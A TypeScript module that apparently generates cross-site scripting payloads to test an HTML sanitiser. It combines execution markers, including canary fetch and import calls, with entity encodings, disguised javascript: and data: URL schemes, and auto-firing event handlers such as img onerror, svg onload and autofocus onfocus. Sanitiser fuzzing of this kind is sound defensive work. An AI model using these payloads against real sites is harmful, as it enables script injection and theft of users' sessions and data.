/**
 * Ways to make code be noticed: by a call, a dialog, the console, or the network at an address that nobody else asks.
 * None gives a text, because the text of an address that runs takes the place of the page, and of the test with it.
 */
export const codes: readonly ((n: number, canary: string) => string)[] = [
  (n) => `hit(${n})`,
  (n) => `hit(${n})`,
  (n) => `hit(${n})`,
  (n) => `top.hit(${n})`,
  (n) => `self['hit'](${n})`,
  (n) => `hit\`${n}\``,
  (n) => `[${n}].map(hit)`,
  (n) => `\\u0068it(${n})`,
  (n) => `(function(){return this})().hit(${n})`,
  (n) => `setTimeout('hit(${n})')`,
  (n) => `Function('hit(${n})')()`,
  (n) => `alert(${n})`,
  (n) => `console.log('hit',${n})`,
  (n, canary) => `fetch('${canary}/${n}')`,
  (n, canary) => `void(new Image().src='${canary}/${n}')`,
  (n, canary) => `import('${canary}/${n}')`,
  (n) => `void(location='javascript:hit(${n})')`,
]

/** How characters of an attribute's value may be written without changing what a browser reads. */
export const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join(''),
  (text) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16).toUpperCase()};`).join(''),
  (text) => [...text].map((letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')};`).join(''),
  (text) => text.replace(/[a-z]/i, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  (text) => text.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;').replaceAll(':', '&colon;'),
  (text) => text.replace(/[g-z](?!\d)/g, (letter) => `&#${letter.charCodeAt(0)}`),
]

export const quotings: readonly ((value: string) => string)[] = [
  (value) => `"${value.replaceAll('"', '&quot;')}"`,
  (value) => `'${value.replaceAll("'", '&#39;')}'`,
  (value) => value.replace(/[\s"'`=<>]/g, (letter) => `&#${letter.charCodeAt(0)};`),
]

/** What may stand between the parts of a tag. */
export const gaps: readonly string[] = [' ', '\n', '\t', '\f', '/', ' / ', '\r\n']

export const casings: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => name.toUpperCase(),
  (name) => [...name].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join(''),
]

/** Addresses that run: schemes in the disguises that browsers see through, and some that they no longer do. */
export const schemes: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` \n javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `j\ra\tv\na\rscript:${code}`,
  (code) => `javascript\t:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `\u001fjavascript:${code}`,
  (code) => `javascript://x.localhost/%0a${code}`,
  (code) => `javascript:/*--></title></style></textarea>*/${code}`,
  (code) => `javascript:void(${code})`,
  (code) => `javascript:"<b>".length&&${code}`,
  (code) => `javascript:%${code.charCodeAt(0).toString(16)}${code.slice(1)}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `DATA:text/html;charset=utf-8,<svg onload="${code.replaceAll('"', "'")}">`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code.replaceAll("'", '"')}'/>`,
  (code) => `data:application/xhtml+xml,<x xmlns:s='http://www.w3.org/1999/xhtml'><s:script>${code}</s:script></x>`,
  (code) => `vbscript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `\uFF4Aavascript:${code}`,
]

/** Events that come without anybody's doing, each with the element that brings it. */
export const automatic: readonly (readonly [open: string, event: string, close: string])[] = [
  ['img src=data:,', 'onerror', ''],
  ['img src=x', 'onerror', ''],
  ['img srcset=data:,', 'onerror', ''],
  ['image src=data:,', 'onerror', ''],
  ['svg', 'onload', '</svg>'],
  ['details open', 'ontoggle', '<summary>a</summary></details>'],
  ['audio src=data:,', 'onerror', '</audio>'],
  ['video src=data:,', 'onerror', '</video>'],
  ['video src=data:,', 'onloadstart', '</video>'],
  ['video><source', 'onerror', '</video>'],
  ['input autofocus', 'onfocus', ''],
  ['textarea autofocus', 'onfocusin', '</textarea>'],
  ['select autofocus', 'onfocus', '</select>'],
  ['p tabindex=0 autofocus', 'onfocus', 'a</p>'],
  ['iframe', 'onload', '</iframe>'],
  ['iframe src=data:,', 'onload', '</iframe>'],
  ['object data=data:,x', 'onload', '</object>'],
  ['embed src=data:,x', 'onload', ''],
  ['style', 'onload', '</style>'],
  ['link rel=stylesheet href=data:text/css,', 'onload', ''],
  ['input type=image src=data:,', 'onerror', ''],
  ['marquee loop=1', 'onstart', 'a</marquee>'],
  ['svg><animate attributeName=x dur=1s', 'onbegin', '</animate></svg>'],
  ['svg><set attributeName=x dur=1s', 'onbegin', '</set></svg>'],
  ['svg><image href=data:,', 'onerror', '</image></svg>'],
  ['svg><style', 'onload', '</style></svg>'],
  ['body', 'onload', ''],
  ['script src=data:,', 'onload', '</script>'],
]

/** Events that wait for a gesture or a moment. */
export const gestures: readonly string[] = [
  ...['onclick', 'ondblclick', 'onauxclick', 'oncontextmenu', 'onmousedown', 'onmouseover', 'onmouseenter'],
  ...['onpointerdown', 'onpointerover', 'onpointerrawupdate', 'ontouchstart', 'onwheel', 'ondragstart', 'ondrop'],
  ...['onfocus', 'onfocusin', 'onblur', 'onkeydown', 'onbeforeinput', 'oncopy', 'onpaste', 'onselectstart'],
  ...[
    'onanimationstart',
    'ontransitionend',
    'onscrollend',
    'onbeforetoggle',
    'onbeforematch',
    'onsecuritypolicyviolation',
  ],
  ...['onwebkitanimationend', 'oncontentvisibilityautostatechange', 'onslotchange', 'onfullscreenchange', 'onformdata'],
]

/** Elements that the sanitiser lets through, and some that nobody knows. */
export const bearers: readonly string[] = [
  'p',
  'a',
  'li',
  'td',
  'th',
  'strong',
  'em',
  'h3',
  'div',
  'table',
  'x-note',
  'font',
]
